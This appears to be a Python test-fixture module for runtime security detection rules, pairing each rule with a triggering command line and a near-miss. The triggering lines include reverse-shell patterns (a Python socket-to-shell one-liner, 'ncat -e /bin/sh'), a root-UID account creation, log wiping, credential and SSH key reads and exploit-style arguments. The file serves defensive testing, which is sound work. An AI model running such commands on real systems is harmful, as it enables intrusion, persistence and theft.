"""Command lines for the rules about watched folders, used tools and containers; ``test_own_rules.py`` runs them."""

from __future__ import annotations

import sys
from pathlib import Path

from other_ways import IN_BIN, INSTALLED

#: Rules about what the tester is: not installed, under many names. They tell of other lines by the way.
BY_THE_WAY = {
    "Folder of programs changed",
    "File of the system written by a program that is not installed",
    "Program started from a file system in memory",
    "Folder of the system covered",
    "Program with a name of the system's",
    "Settings of a user read by a program that is not installed",
}

CONTAINER = "@runc cgroup $cgroup"

#: Python, which makes a connection its standard input and goes on with the rest of the word.
LED_TO_THE_NETWORK = (
    f"{sys.executable} -c (s:=__import__('socket').socket(2,2)).connect(('127.0.0.1',9));"
    "__import__('os').dup2(s.fileno(),0);__import__('os')."
)

#: Python, which makes a file its output and becomes netcat.
INTO_A_FILE = (
    f"{sys.executable} -c (o:=__import__('os')).{{}}('$tmp/f',{{}});o.dup2(o.open('$tmp/f',2),1);"
    "o.execv(__import__('sys').argv[1],['nc','noop']) @nc"
)
LINKER = next(
    (path for path in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1") if Path(path).exists()), ""
)

#: For each rule a command line that fires it and one that is close but does not; conftest says how to read them.
TOOL_LINES = {
    "Library loaded into a program that checks passwords": (
        "@a private /usr/bin with LD_PRELOAD=/srv/x.so child installed /usr/bin/su folder $tmp/x",
        "@a private /usr/bin with LD_PRELOAD=/usr/lib/x.so child installed /usr/bin/su folder $tmp/x",
    ),
    "Watcher stopped by a command": (
        "@a run @systemctl noop stop auditd.service",
        "@a run @systemctl noop restart auditd.service",
    ),
    "Filter of packets emptied": ("@a run @iptables noop -F", "@a run @iptables noop -L"),
    "Traces removed by a tool": ("@a run /usr/bin/dmesg -C --help $tmp/x", "@a run /usr/bin/dmesg -T --help $tmp/x"),
    "File made unchangeable or changeable again": (
        "@a run @chattr noop +i $tmp/x",
        "@a run @chattr noop +C $tmp/x",
    ),
    "Account with root's number made": (
        "@a run /usr/sbin/useradd -o -u 0 --help $tmp/x",
        "@a run /usr/sbin/useradd -o -u 1000 --help $tmp/x",
    ),
    "Account made an administrator": (
        "@a run /usr/sbin/usermod -aG sudo --help $tmp/x",
        "@a run /usr/sbin/usermod -aG audio --help $tmp/x",
    ),
    "Kernel told to run a program by sysctl": (
        "@a run @sysctl noop kernel.modprobe=$tmp/x",
        "@a run @sysctl noop kernel.domainname=$tmp/x",
    ),
    "Code in shared memory loaded": (
        "@a made $shm/x.so open read $shm/x.so",
        "@a made $shm/x.txt open read $shm/x.txt",
    ),
    "Named pipe leads from the network": (
        INTO_A_FILE.format("mkfifo", "0o600"),
        INTO_A_FILE.format("open", "66"),
    ),
    "File with credentials read by a tool": (
        f"{IN_BIN}/base64 folder $tmp/.aws made $tmp/.aws/credentials open read $tmp/.aws/credentials",
        f"{IN_BIN}/aws folder $tmp/.aws made $tmp/.aws/credentials open read $tmp/.aws/credentials",
    ),
    "File shown as a disk mounted": (
        "@a private $tmp folder $tmp/x mount /dev/loop99 $tmp/x tmpfs",
        "@a private $tmp folder $tmp/x mount tmpfs $tmp/x tmpfs",
    ),
    "Folder of the system covered": (
        f"{IN_BIN}/x folder $tmp/x private /etc mount tmpfs /etc tmpfs",
        f"{IN_BIN}/x folder $tmp/x private /srv mount tmpfs /srv tmpfs",
    ),
    "Dynamic linker copied": (
        f"{IN_BIN}/cp folder $tmp/x open read {LINKER}",
        f"{IN_BIN}/file folder $tmp/x open read {LINKER}",
    ),
    "Program started from where none are": (
        "@a private /etc child installed /etc/x folder $tmp/x",
        "@a private /srv child installed /srv/x folder $tmp/x",
    ),
    "Server that runs no shells started one": ("@nginx run /bin/sh -c : $tmp/x", "@builder run /bin/sh -c : $tmp/x"),
    "Web application started a shell": ("@apache2 run /bin/sh -c : $tmp/x", "@builder run /bin/sh -c : $tmp/x"),
    "Script handed over by a shell without a file": (
        "@bash run /usr/bin/perl /dev/fd/0 $tmp/x",
        "@bash run /usr/bin/perl /dev/null $tmp/x",
    ),
    "Protection of the kernel lowered": (
        "@implant open write /proc/sys/kernel/randomize_va_space",
        "@reader open read /proc/sys/kernel/randomize_va_space",
    ),
    "Kernel module loaded from inside a container": (
        f"{CONTAINER} exec @rootkit module init",
        f"{CONTAINER} exec @tool noop",
    ),
    "Shell started with a network connection as its input": (
        f"{LED_TO_THE_NETWORK}execv('/bin/sh',['sh','-c',':','$tmp/'])",
        f"{LED_TO_THE_NETWORK}execv('/bin/true',['true','$tmp/'])",
    ),
    "Memory of another process read by a program that is not installed": (
        "@thief open read /proc/$here/mem",
        f"{IN_BIN}/gdb folder $tmp/x open read /proc/$here/mem",
    ),
    "Memory or disk read as bytes": (
        f"{IN_BIN}/dd folder $tmp/x open read /proc/$here/mem",
        f"{IN_BIN}/dd folder $tmp/x open read /proc/self/mem",
    ),
    "Script without a name started": (
        "@loader run /usr/bin/perl /proc/self/fd/0 $tmp/x",
        "@loader run /usr/bin/perl /dev/null $tmp/x",
    ),
    "File that starts a program by itself written": (
        "@implant private /etc folder /etc/udev folder /etc/udev/rules.d open write /etc/udev/rules.d/x.rules",
        "@implant private /etc folder /etc/udev open write /etc/udev/x.rules",
    ),
    "Folder of programs changed": (
        "@implant private /usr/bin made /usr/bin/x noop",
        "@builder private /usr/local folder /usr/local/bin made /usr/local/bin/x noop",
    ),
    "File of the system written by a program that is not installed": (
        "@implant private /etc made /etc/x noop",
        f"{INSTALLED}/cupsd folder $tmp/x private /etc made /etc/x noop",
    ),
    "Log emptied": ("@implant open truncate $tmp/auth.log", "@implant open append $tmp/auth.log"),
    "Start-up file of a user's shell changed": (
        "@implant open append $tmp/.bashrc",
        "@implant open append $tmp/bashrc",
    ),
    "Settings of a user read by a program that is not installed": (
        "@thief folder $tmp/.ssh made $tmp/.ssh/known_hosts noop",
        f"{INSTALLED}/ssh folder $tmp/.ssh made $tmp/.ssh/known_hosts noop",
    ),
    "Hidden file made in a temporary folder": (
        "@implant made /tmp/.falcohost-hidden unlink /tmp/.falcohost-hidden",
        "@implant made $tmp/.hidden unlink $tmp/.hidden",
    ),
    "Link made to files that only root may see": (
        "@implant symlink /etc $tmp/x",
        "@implant symlink /etc/hostname $tmp/x",
    ),
    "Keys and passwords searched for": (
        "@a run @locate noop id_rsa",
        "@a run @locate noop id_rs",
    ),
    "Miner of coins started": (
        "@a run @program noop -o Stratum+TCP://pool:3333",
        "@a run @program noop -o tcp://pool:3333",
    ),
    "Files overwritten for good": (
        "@a run @shred noop $tmp/x",
        "@a run @dd noop if=/dev/sda of=/dev/null",
    ),
    "Program handed to the network": (
        "@a run @ncat noop -e /bin/sh 192.0.2.1 22",
        "@a run @ncat noop 192.0.2.1 22",
    ),
    "Network scanned or listened to": ("@a run @nmap noop 192.0.2.0/24", "@a run @ping noop 192.0.2.1"),
    "Program with a name of the system's": ("@a run @sha1sum noop", f"{IN_BIN}/sha1sum folder $tmp/x"),
    "Database started a program": ("@mysqld run /usr/bin/true $tmp/x", "@builder run /usr/bin/true $tmp"),
    "Jobs of cron read or changed without a terminal": (
        "@a run @crontab noop",
        "@a terminal run @crontab noop",
    ),
    "C library tuned as exploits do": (
        "@a with GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=1 run @program noop",
        "@a with GLIBC_TUNABLES=glibc.malloc.mxfast=1 run @program noop",
    ),
    "Set-uid program started as exploits do": (
        "@a exec-as @sudo sudoedit noop -s $tmp\\",
        "@a exec-as @sudo sudoedit noop -s $tmp",
    ),
    "Program for logins started by a system account": (
        f"{IN_BIN}/su folder $tmp/x as 1 exec /usr/bin/su noop $tmp/x",
        f"{IN_BIN}/su folder $tmp/x as 1000 exec /usr/bin/su noop $tmp/x",
    ),
    "SSH used at a port of another service": (
        "@a run @ssh noop -p 443 user@host",
        "@a run @ssh noop -p 2222 user@host",
    ),
    "Namespace joined by a program that is not installed": ("@tool setns", f"{IN_BIN}/nsenter folder $tmp/x setns"),
    "Package manager started in a running container": (
        f"{CONTAINER} run @apt-get noop update",
        "@a run @apt-get noop update",
    ),
    "Files fetched or sent by a tool in a container": (
        f"{CONTAINER} run @wget noop http://192.0.2.1/x",
        f"{CONTAINER} run @curl noop http://192.0.2.1/x",
    ),
    "Network tool started in a container": (f"{CONTAINER} run @telnet noop 192.0.2.1", "@a run @telnet noop 192.0.2.1"),
    "Client of Kubernetes or a runtime started in a container": (
        f"{CONTAINER} run @kubectl noop get pods",
        "@a run @kubectl noop get pods",
    ),
    "Tool for disks and mounts started in a container": (
        f"{CONTAINER} run @debugfs noop /dev/sda",
        "@a run @debugfs noop /dev/sda",
    ),
    "Encoded text decoded by a command in a container": (
        f"{CONTAINER} run @program noop Y2F0 | base64 -d",
        f"{CONTAINER} run @program noop Y2F0 | base64",
    ),
    "Environment read by a command in a container": (
        f"{CONTAINER} run @cat /proc/self/environ",
        f"{CONTAINER} run @cat /proc/self/comm",
    ),
    "Program made in a temporary folder of a container": (
        f"{CONTAINER} exec @implant chmod 0755 $tmp/@implant",
        f"{CONTAINER} exec @implant chmod 0600 $tmp/@other",
    ),
    "Namespaces changed without the right to in a container": (
        f"{CONTAINER} as 65534 exec @exploit unshare fs",
        f"{CONTAINER} exec @tool unshare fs",
    ),
    "Raw network traffic opened in a container": (
        f"{CONTAINER} exec @sniffer socket packet",
        f"{CONTAINER} exec @tool socket inet",
    ),
}
